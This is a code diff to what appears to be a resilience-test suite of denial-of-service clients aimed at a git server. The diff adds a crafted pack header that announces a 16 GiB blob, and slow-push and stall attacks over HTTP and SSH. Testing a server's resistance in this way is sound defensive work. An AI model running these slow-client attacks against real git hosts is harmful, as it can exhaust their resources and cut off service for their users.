@@ -16,7 +16,23 @@ const packetLine = (text: string): string => (text.length + 4).toString(16).padS
 
 /** A new branch, and the beginning of a pack. */
 const UPDATE = `${'0'.repeat(40)} ${'1'.repeat(40)} refs/heads/slow\0report-status`;
-const START_OF_PUSH = `${packetLine(UPDATE)}0000PACK\0\0\0\x02\0\0\x27\x10`;
+const START_OF_PUSH = Buffer.from(`${packetLine(UPDATE)}0000PACK\0\0\0\x02\0\0\x27\x10`, 'latin1');
+/** The beginning of a valid pack, of which git waits for the rest. */
+const FAST_START_OF_PUSH = Buffer.concat([START_OF_PUSH, startOfBlob(2 * MIB)]);
+const SLOW_PIECE = Buffer.alloc(512, 'x');
+
+/** A blob of 16 GiB up to its first bytes: stored blocks of the deflate format. */
+function startOfBlob(bytes: number): Buffer {
+  const block = Buffer.alloc(65_535 + 5, 'x');
+  block[0] = 0;
+  block.writeUInt16LE(65_535, 1);
+  block.writeUInt16LE(0, 3);
+  return Buffer.concat([
+    // Type and size of the object, and the head of a zlib stream.
+    Buffer.from([0xb0, 0x80, 0x80, 0x80, 0x80, 0x08, 0x78, 0x01]),
+    ...Array.from({ length: Math.ceil(bytes / block.length) }, () => block),
+  ]);
+}
 
 /** A clone in protocol v0. */
 const cloneOf = ({ project }: AttackTarget): string =>
@@ -39,11 +55,13 @@ function fetchRequest(target: AttackTarget, ...further: string[]): string {
 }
 
 /** A client that pushes over HTTP: `start` at once, and then `next` each second. */
-function pushingClient(target: AttackTarget, start: string, next: string): HostileClient {
+function pushingClient(target: AttackTarget, start: Buffer, next?: Buffer): HostileClient {
   const { username, token } = target.user;
   return socketClient(target, (socket) => {
-    const write = (chunk: string): void => {
-      socket.write(`${chunk.length.toString(16)}\r\n${chunk}\r\n`, 'latin1');
+    const write = (chunk: Buffer): void => {
+      socket.write(`${chunk.length.toString(16)}\r\n`);
+      socket.write(chunk);
+      socket.write('\r\n');
     };
     socket.resume();
     socket.write(
@@ -54,7 +72,7 @@ function pushingClient(target: AttackTarget, start: string, next: string): Hosti
       }),
     );
     write(start);
-    if (next !== '') repeatEachSecond(socket, () => write(next));
+    if (next) repeatEachSecond(socket, () => write(next));
   });
 }
 
@@ -115,16 +133,15 @@ export const gitAttacks: Record<string, Attack> = {
       writeSlowly(socket, packetLine('command=fetch'));
     }),
 
-  'push at 512 bytes a second': (target) => pushingClient(target, START_OF_PUSH, 'x'.repeat(512)),
+  'push at 512 bytes a second': (target) => pushingClient(target, START_OF_PUSH, SLOW_PIECE),
 
-  'begin to push fast and then send nothing': (target) =>
-    pushingClient(target, START_OF_PUSH + 'x'.repeat(2 * MIB), ''),
+  'begin to push fast and then send nothing': (target) => pushingClient(target, FAST_START_OF_PUSH),
 
   'push over SSH at 512 bytes a second': (target) =>
     sshClient(target, 'git-receive-pack', (channel) => {
       channel.resume();
       channel.write(START_OF_PUSH);
-      repeatEachSecond(channel, () => channel.write('x'.repeat(512)));
+      repeatEachSecond(channel, () => channel.write(SLOW_PIECE));
     }),
 
   'open SSH sessions and send nothing': (target) =>
